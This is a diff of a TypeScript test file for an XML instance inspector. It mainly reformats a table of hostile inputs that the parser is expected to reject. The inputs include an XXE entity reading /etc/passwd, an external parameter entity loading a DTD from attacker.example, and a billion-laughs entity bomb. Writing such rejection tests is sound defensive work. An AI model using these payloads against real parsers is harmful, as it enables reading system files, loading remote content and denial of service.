@@ -17,8 +17,16 @@ const BILLION_LAUGHS = `<?xml version="1.0"?>
 <sdc4:dm-x xmlns:sdc4="https://semanticdatacharter.com/ns/sdc4/">&lol9;</sdc4:dm-x>`;
 
 const HOSTILE: Array<[string, () => string, RegExp]> = [
-  ['an external entity (XXE)', () => '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>', /DOCTYPE declarations are not allowed/],
-  ['an external parameter entity', () => '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><r/>', /DOCTYPE declarations are not allowed/],
+  [
+    'an external entity (XXE)',
+    () => '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
+    /DOCTYPE declarations are not allowed/,
+  ],
+  [
+    'an external parameter entity',
+    () => '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><r/>',
+    /DOCTYPE declarations are not allowed/,
+  ],
   ['billion laughs', () => BILLION_LAUGHS, /DOCTYPE declarations are not allowed/],
   ['an entity that was never declared', () => '<r>&undeclared;</r>', /undefined entity/],
   ['XML nested 100,000 deep', () => `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`, /Excessive depth/],
@@ -37,7 +45,10 @@ describe('inspectInstance', () => {
   it('gives no dm_ct_id for a root outside the SDC4 namespace or not named dm-{ct_id}', () => {
     expect(inspectInstance('<dm-abc/>').dmCtId).toBeNull();
     expect(inspectInstance('<x:dm-abc xmlns:x="urn:other"/>').dmCtId).toBeNull();
-    expect(inspectInstance('<sdc4:ms-abc xmlns:sdc4="https://semanticdatacharter.com/ns/sdc4/"/>')).toMatchObject({ rootTag: 'sdc4:ms-abc', dmCtId: null });
+    expect(inspectInstance('<sdc4:ms-abc xmlns:sdc4="https://semanticdatacharter.com/ns/sdc4/"/>')).toMatchObject({
+      rootTag: 'sdc4:ms-abc',
+      dmCtId: null,
+    });
   });
 
   it('reports the root tag seen before a well-formedness error, and null when there is no root', () => {
